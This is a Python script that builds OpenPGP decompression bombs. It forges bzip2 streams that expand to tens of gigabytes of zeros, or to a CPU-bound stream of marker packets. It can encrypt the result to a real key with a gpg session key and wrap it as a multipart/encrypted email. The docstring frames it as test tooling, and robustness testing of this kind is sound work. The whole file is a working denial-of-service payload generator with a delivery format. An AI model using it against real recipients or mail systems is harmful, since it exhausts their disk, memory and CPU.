#!/usr/bin/python3
"""pgpbomb - OpenPGP decompression bombs for tests (Python 3 stdlib only).

A BZIP2 bomb is built without compressing its output: a few blocks of zeros
are compressed with the bz2 module, one full all-zero block is cut out of
that stream at the bit level (blocks are not byte-aligned: each starts with
the 48-bit magic 0x314159265359 and carries its own CRC), and repeated N
times after the first block; the stream ends with the 48-bit end magic
0x177245385090, the combined CRC (combined = rotl1(combined) ^ block CRC,
over every block) and padding to a byte. One such block is 32 bytes and
decodes to about 45 MB of zeros.

The bzip2 stream holds an OpenPGP literal data packet (tag 11, old format,
indeterminate length: it ends where the stream ends) of `size` zeros, and
is wrapped in a compressed data packet (tag 8, algorithm 3 = BZIP2): the
"unencrypted" bomb. encrypt_to() puts it in a real encrypted message to a
key whose secret the caller holds: gpg encrypts a tiny message to that key,
reveals its session key (--show-session-key), and a new SEIPD packet (tag
18, version 1: AES-CFB with a zero IV over a random prefix, its last two
bytes again, the bomb and an MDC packet 0xD3 0x14 + SHA-1) is built around
the bomb with that session key, after the tiny message's PKESK packets.
AES comes from libgcrypt through ctypes (Python has none).

    python3 pgpbomb.py [--size 64G] [--kind zeros|markers]
                       [--encrypt HOME FPR] [--armor] [-o FILE]

The literal packet holds at least `size` zeros (a whole number of blocks,
so up to 45 MB more); bomb() says how many exactly.

--kind markers makes a silent bomb instead: the compressed packet holds
`size` bytes of marker packets (tag 10, "PGP"), which gpg reads and skips
one by one, writing nothing. No output limit stops that; only a time limit
does (about 100 MB a second of gpg's CPU here: 64 GiB is ten minutes).
"""
import argparse
import base64
import bz2
import ctypes
import ctypes.util
import hashlib
import os
import re
import subprocess
import sys

BLOCK_MAGIC = 0x314159265359
END_MAGIC = 0x177245385090
# An old-format literal packet header of indeterminate length (0x80 | 11 << 2
# | 3), then format 'b', no file name and a zero date.
LITERAL_HEADER = bytes([0xAF]) + b"b" + b"\0" + b"\0\0\0\0"
ZERO_RUN = 46 * 1000 * 1000     # more than one 900k block holds after RLE
# A marker packet, new format: gpg skips it. A 900k block holds 899981
# bytes without runs; 149996 markers fill it with whole packets.
MARKER = b"\xca\x03PGP"
MARKERS_PER_BLOCK = 149996


def _bits(data):
    return bin(int.from_bytes(data, "big"))[2:].zfill(8 * len(data))


def _from_bits(bits):
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def _blocks(stream):
    """The stream's 4-byte header and its blocks, as bit strings."""
    bits = _bits(stream)
    magic = format(BLOCK_MAGIC, "048b")
    starts = [m.start() for m in re.finditer("(?=%s)" % magic, bits)]
    end = bits.rfind(format(END_MAGIC, "048b"))
    if not starts or end < starts[-1]:
        raise ValueError("unexpected bzip2 stream layout")
    edges = starts + [end]
    return bits[:32], [bits[a:b] for a, b in zip(edges, edges[1:])]


def _stream(header, blocks, counts):
    """A bzip2 stream of blocks[i] repeated counts[i] times."""
    combined = 0
    out = [header]
    for block, n in zip(blocks, counts):
        crc = int(block[48:80], 2)
        for _ in range(n):
            combined = (((combined << 1) | (combined >> 31)) & 0xFFFFFFFF) ^ crc
        out.append(block * n)
    out.append(format(END_MAGIC, "048b"))
    out.append(format(combined, "032b"))
    return _from_bits("".join(out))


def _decoded_len(header, block):
    return len(bz2.decompress(_stream(header, [block], [1])))


def bzip2_bomb(size):
    """(stream, zeros): a bzip2 stream of LITERAL_HEADER then >= size zeros."""
    sample = bz2.compress(LITERAL_HEADER + bytes(3 * ZERO_RUN), 9)
    header, blocks = _blocks(sample)
    if len(blocks) < 3:
        raise ValueError("unexpected bzip2 stream layout")
    first, zero = blocks[0], blocks[1]
    first_len = _decoded_len(header, first)
    zero_len = _decoded_len(header, zero)
    want = max(0, size - (first_len - len(LITERAL_HEADER)))
    n = -(-want // zero_len)
    zeros = first_len - len(LITERAL_HEADER) + n * zero_len
    return _stream(header, [first, zero], [1, n]), zeros


def bzip2_markers(size):
    """(stream, n): a bzip2 stream of >= size bytes of marker packets, n
    bytes exactly: one block of whole packets, repeated."""
    header, blocks = _blocks(bz2.compress(MARKER * MARKERS_PER_BLOCK, 9))
    if len(blocks) != 1:
        raise ValueError("unexpected bzip2 stream layout")
    per_block = len(MARKER) * MARKERS_PER_BLOCK
    n = max(1, -(-size // per_block))
    return _stream(header, blocks, [n]), n * per_block


def packet(tag, body):
    """A new-format OpenPGP packet with a definite length."""
    n = len(body)
    if n < 192:
        length = bytes([n])
    elif n < 8384:
        length = bytes([((n - 192) >> 8) + 192, (n - 192) & 0xFF])
    else:
        length = b"\xff" + n.to_bytes(4, "big")
    return bytes([0xC0 | tag]) + length + body


def compressed_bomb(size, kind="zeros"):
    """(packet, n): the compressed data packet of the bomb, and how many
    zeros (or bytes of markers) it holds."""
    stream, n = bzip2_markers(size) if kind == "markers" else bzip2_bomb(size)
    return packet(8, b"\x03" + stream), n


def _crc24(data):
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return crc & 0xFFFFFF


def armor(data):
    """ASCII armor (BEGIN PGP MESSAGE), LF line ends."""
    b64 = base64.b64encode(data).decode()
    lines = [b64[i:i + 64] for i in range(0, len(b64), 64)]
    crc = base64.b64encode(_crc24(data).to_bytes(3, "big")).decode()
    return ("-----BEGIN PGP MESSAGE-----\n\n" + "\n".join(lines) + "\n=" + crc +
            "\n-----END PGP MESSAGE-----\n")


def packets(data):
    """Split binary OpenPGP data into (tag, raw packet bytes), definite lengths."""
    out, i = [], 0
    while i < len(data):
        start, h = i, data[i]
        if not h & 0x80:
            raise ValueError("not an OpenPGP packet at %d" % i)
        if h & 0x40:
            tag = h & 0x3F
            o = data[i + 1]
            if o < 192:
                n, i = o, i + 2
            elif o < 224:
                n, i = ((o - 192) << 8) + data[i + 2] + 192, i + 3
            elif o == 255:
                n, i = int.from_bytes(data[i + 2:i + 6], "big"), i + 6
            else:
                raise ValueError("partial lengths are not handled")
        else:
            tag, ltype = (h >> 2) & 0xF, h & 3
            if ltype == 3:
                raise ValueError("indeterminate length is not handled")
            w = 1 << ltype
            n, i = int.from_bytes(data[i + 1:i + 1 + w], "big"), i + 1 + w
        i += n
        out.append((tag, data[start:i]))
    return out


class _Gcrypt:
    """AES-CFB from libgcrypt (GCRY_CIPHER_MODE_CFB, not OpenPGP's resync CFB)."""
    MODE_CFB = 2
    # OpenPGP symmetric algorithm ids 7, 8, 9 (AES-128/192/256) are
    # libgcrypt's GCRY_CIPHER_AES, AES192 and AES256 too.
    KEY_LEN = {7: 16, 8: 24, 9: 32}

    def __init__(self):
        name = "/usr/lib/x86_64-linux-gnu/libgcrypt.so.20"
        if not os.path.exists(name):
            name = ctypes.util.find_library("gcrypt") or "libgcrypt.so.20"
        self.lib = ctypes.CDLL(name)
        self.lib.gcry_check_version.restype = ctypes.c_char_p
        self.lib.gcry_check_version.argtypes = [ctypes.c_char_p]
        if not self.lib.gcry_check_version(None):
            raise RuntimeError("libgcrypt did not initialise")
        self.lib.gcry_cipher_open.argtypes = [ctypes.POINTER(ctypes.c_void_p),
                                              ctypes.c_int, ctypes.c_int, ctypes.c_uint]
        self.lib.gcry_cipher_setkey.argtypes = [ctypes.c_void_p, ctypes.c_char_p,
                                                ctypes.c_size_t]
        self.lib.gcry_cipher_setiv.argtypes = [ctypes.c_void_p, ctypes.c_char_p,
                                               ctypes.c_size_t]
        self.lib.gcry_cipher_encrypt.argtypes = [ctypes.c_void_p, ctypes.c_char_p,
                                                 ctypes.c_size_t, ctypes.c_char_p,
                                                 ctypes.c_size_t]
        self.lib.gcry_cipher_close.argtypes = [ctypes.c_void_p]
        for f in ("gcry_cipher_open", "gcry_cipher_setkey", "gcry_cipher_setiv",
                  "gcry_cipher_encrypt"):
            getattr(self.lib, f).restype = ctypes.c_uint

    def cfb_encrypt(self, algo, key, data):
        if self.KEY_LEN.get(algo) != len(key):
            raise ValueError("cipher %d with a %d-byte key is not handled" % (algo, len(key)))
        hd = ctypes.c_void_p()
        err = self.lib.gcry_cipher_open(ctypes.byref(hd), algo, self.MODE_CFB, 0)
        if err:
            raise RuntimeError("gcry_cipher_open: %d" % err)
        try:
            out = ctypes.create_string_buffer(len(data))
            if (self.lib.gcry_cipher_setkey(hd, key, len(key)) or
                    self.lib.gcry_cipher_setiv(hd, bytes(16), 16) or
                    self.lib.gcry_cipher_encrypt(hd, out, len(data), data, len(data))):
                raise RuntimeError("libgcrypt AES-CFB failed")
            return out.raw
        finally:
            self.lib.gcry_cipher_close(hd)


def seipd(algo, key, plaintext):
    """A SEIPD packet (tag 18, version 1) of plaintext (OpenPGP packets)."""
    prefix = os.urandom(16)
    prefix += prefix[-2:]
    body = prefix + plaintext + b"\xd3\x14"
    body += hashlib.sha1(body).digest()
    return packet(18, b"\x01" + _Gcrypt().cfb_encrypt(algo, key, body))


def session_of(home, fpr):
    """(PKESK packets, cipher algo, session key) of a tiny message to fpr,
    encrypted and then decrypted with the secret key in home."""
    gpg = ["gpg", "--homedir", home, "--batch", "--yes", "--quiet",
           "--trust-model", "always", "--pinentry-mode", "loopback",
           "--passphrase", ""]
    p = subprocess.run(gpg + ["--encrypt", "-r", fpr, "--compress-algo", "none"],
                       input=b"tiny\n", capture_output=True, check=True)
    tiny = p.stdout
    p = subprocess.run(gpg + ["--status-fd", "2", "--show-session-key", "--decrypt"],
                       input=tiny, capture_output=True, check=True)
    m = re.search(rb"\[GNUPG:\] SESSION_KEY (\d+):([0-9A-Fa-f]+)", p.stderr)
    if not m:
        raise RuntimeError("gpg did not show the session key")
    pkesk = b"".join(raw for tag, raw in packets(tiny) if tag == 1)
    return pkesk, int(m.group(1)), bytes.fromhex(m.group(2).decode())


def encrypt_to(home, fpr, inner):
    """inner (OpenPGP packets) encrypted to fpr, whose secret key is in home."""
    pkesk, algo, key = session_of(home, fpr)
    return pkesk + seipd(algo, key, inner)


def bomb(size, home=None, fpr=None, kind="zeros"):
    """(binary OpenPGP message, n): the compressed bomb (see
    compressed_bomb), encrypted to fpr when home and fpr are given."""
    pkt, n = compressed_bomb(size, kind)
    if home is not None:
        pkt = encrypt_to(home, fpr, pkt)
    return pkt, n


def multipart_encrypted(headers, armored):
    """An RFC 3156 multipart/encrypted message (CRLF) around armored text;
    headers: the top-level header lines (no Content-Type, no MIME-Version)."""
    body = armored.replace("\r\n", "\n").replace("\n", "\r\n")
    return ("".join("%s: %s\r\n" % kv for kv in headers) +
            "MIME-Version: 1.0\r\n"
            "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";"
            " boundary=\"bomb\"\r\n\r\n--bomb\r\nContent-Type: application/pgp-encrypted\r\n"
            "\r\nVersion: 1\r\n\r\n--bomb\r\nContent-Type: application/octet-stream\r\n\r\n"
            "%s\r\n--bomb--\r\n" % body).encode()


def parse_size(text):
    m = re.fullmatch(r"(\d+)([KMGT]?)", text.strip().upper())
    if not m:
        raise argparse.ArgumentTypeError("a size like 1G or 64G")
    return int(m.group(1)) << {"": 0, "K": 10, "M": 20, "G": 30, "T": 40}[m.group(2)]


def main(argv):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--size", type=parse_size, default=64 << 30,
                    help="zeros in the literal packet (default 64G)")
    ap.add_argument("--encrypt", nargs=2, metavar=("HOME", "FPR"),
                    help="encrypt to FPR, whose secret key is in GNUPGHOME HOME")
    ap.add_argument("--kind", choices=("zeros", "markers"), default="zeros",
                    help="zeros: a literal packet (output); markers: silent")
    ap.add_argument("--armor", action="store_true", help="ASCII armor")
    ap.add_argument("-o", "--output", default="-")
    a = ap.parse_args(argv)
    data, n = bomb(a.size, *(a.encrypt or (None, None)), kind=a.kind)
    if a.armor:
        data = armor(data).encode()
    if a.output == "-":
        sys.stdout.buffer.write(data)
    else:
        with open(a.output, "wb") as f:
            f.write(data)
    print("%d bytes, %d bytes of %s" % (len(data), n, a.kind), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
